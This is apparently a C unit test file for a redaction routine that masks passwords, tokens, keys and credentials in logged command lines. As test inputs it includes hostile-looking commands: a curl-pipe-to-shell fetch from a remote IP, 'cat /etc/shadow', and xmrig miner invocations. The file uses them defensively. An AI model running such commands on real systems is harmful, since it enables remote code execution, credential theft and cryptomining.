/*
 * redact: what is taken out of command lines, and what is not.
 */
#include "summarise/summarise.h"
#include "test.h"

static struct arena arena;

struct pair {
    const char *program, *given, *wanted;
};

static void check(const struct pair *pairs, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        bool redacted;
        struct str got =
            summarise_redact(str_of(pairs[i].given), str_of(pairs[i].program), &arena, &redacted);
        if (!str_eqz(got, pairs[i].wanted)) {
            fail_msg("%s\n  gives   %.*s\n  instead %s", pairs[i].given, STR_ARG(got),
                     pairs[i].wanted);
        }
        assert_int_equal(redacted, strcmp(pairs[i].given, pairs[i].wanted) != 0);
    }
}

static void test_names(void **state)
{
    (void)state;
    static const struct pair pairs[] = {
        { "", "app --password hunter2 --verbose", "app --password [redacted] --verbose" },
        { "", "app --password=hunter2 -v", "app --password=[redacted] -v" },
        { "", "app --db-passwd 'two words' x", "app --db-passwd [redacted] x" },
        { "", "API_TOKEN=abc DEBUG=1 app", "API_TOKEN=[redacted] DEBUG=1 app" },
        { "", "PGPASSWORD=a psql -h db", "PGPASSWORD=[redacted] psql -h db" },
        { "", "PWD=/srv OLDPWD=/ sh", "PWD=/srv OLDPWD=/ sh" },
        { "", "x {\"password\":\"hunter2\",\"n\":1}", "x {\"password\":[redacted],\"n\":1}" },
        { "", "get /a?user=me&access_key=zzz&n=1", "get /a?user=me&access_key=[redacted]&n=1" },
        { "", "curl -H 'Authorization: Bearer abc.def' http://h/",
          "curl -H 'Authorization: Bearer [redacted] http://h/" },
        { "", "curl -H X-Api-Key:abc http://h/", "curl -H X-Api-Key:[redacted] http://h/" },
        { "", "curl -H 'X-Api-Key: abc' http://h/", "curl -H 'X-Api-Key: [redacted] http://h/" },
        { "", "app -key k1 -keyfile", "app -key [redacted] -keyfile" },
    };
    check(pairs, ARRAY_SIZE(pairs));
}

static void test_programs(void **state)
{
    (void)state;
    static const struct pair pairs[] = {
        { "/usr/bin/mysql", "-uroot -phunter2 db", "-uroot -p[redacted] db" },
        { "", "mysql -uroot -phunter2 db", "mysql -uroot -p[redacted] db" },
        { "", "sh -c mysqldump -phunter2", "sh -c mysqldump -p[redacted]" },
        { "", "sshpass -p hunter2 ssh h", "sshpass -p [redacted] ssh h" },
        { "", "curl -u me:pw http://h/", "curl -u [redacted] http://h/" },
        { "", "redis-cli -a hunter2 ping", "redis-cli -a [redacted] ping" },
        { "", "mkdir -p /srv/data", "mkdir -p /srv/data" },
        { "", "xmrig -u wallet -p x", "xmrig -u wallet -p x" },
    };
    check(pairs, ARRAY_SIZE(pairs));
}

static void test_shapes(void **state)
{
    (void)state;
    static const struct pair pairs[] = {
        { "", "git clone https://me:pw@host/r.git", "git clone https://[redacted]@host/r.git" },
        { "", "git clone https://ghp_0123456789abcdefghij0123@h/",
          "git clone https://[redacted]@h/" },
        { "", "x AKIAIOSFODNN7EXAMPLE y", "x [redacted] y" },
        { "", "x wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY y", "x [redacted] y" },
        { "", "x eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln y", "x [redacted] y" },
        { "", "x sk-abcdefghijklmnop1234 y", "x [redacted] y" },
        { "", "echo Zm9vYmFyYmF6cXV4Zm9vYmFyYmF6cXV4MTIz | base64 -d",
          "echo [redacted] | base64 -d" },
        { "", "-----BEGIN RSA PRIVATE KEY----- MIIE abc -----END RSA PRIVATE KEY----- z",
          "[redacted] z" },
        { "", "-----BEGIN PRIVATE KEY----- MIIE", "[redacted]" },
    };
    check(pairs, ARRAY_SIZE(pairs));
}

/* What a reader needs stays. */
static void test_kept(void **state)
{
    (void)state;
    static const struct pair pairs[] = {
        { "", "sh -c curl -s http://203.0.113.7/x.sh | sh", "" },
        { "", "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2 --preload libFoo1.so", "" },
        { "", "sha256 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08", "" },
        { "", "id 123e4567-e89b-12d3-a456-426614174000", "" },
        { "", "xmrig -o stratum+tcp://pool.example:3333 --donate-level 1", "" },
        { "", "cat /etc/shadow", "" },
        { "", "a:b c=d :// = : -", "" },
        { "", "", "" },
    };
    for (size_t i = 0; i < ARRAY_SIZE(pairs); i++) {
        const struct pair same = { "", pairs[i].given, pairs[i].given };
        check(&same, 1);
    }
}

/* Whatever the bytes: it ends, and what is said to be a secret is not there. */
static void test_any_text(void **state)
{
    (void)state;
    static const char letters[] = "aZ0=:/@\"' -_.&;,|?token password://";
    uint64_t seed = 1;
    for (unsigned i = 0; i < 20000; i++) {
        char text[64];
        bool redacted;
        size_t n = test_random_below(&seed, sizeof(text));
        for (size_t k = 0; k < n; k++) {
            text[k] = letters[test_random_below(&seed, sizeof(letters) - 1)];
        }
        struct str got = summarise_redact(str_from(text, n), STR("curl"), &arena, &redacted);
        assert_non_null(got.p);
        assert_true(redacted == (str_find(got, STR("[redacted]")) >= 0));
        arena_reset(&arena);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_names),    cmocka_unit_test(test_programs),
        cmocka_unit_test(test_shapes),   cmocka_unit_test(test_kept),
        cmocka_unit_test(test_any_text),
    };
    arena_init(&arena, (size_t)4 << 20);
    int failed = cmocka_run_group_tests(tests, NULL, NULL);
    arena_done(&arena);
    return failed;
}
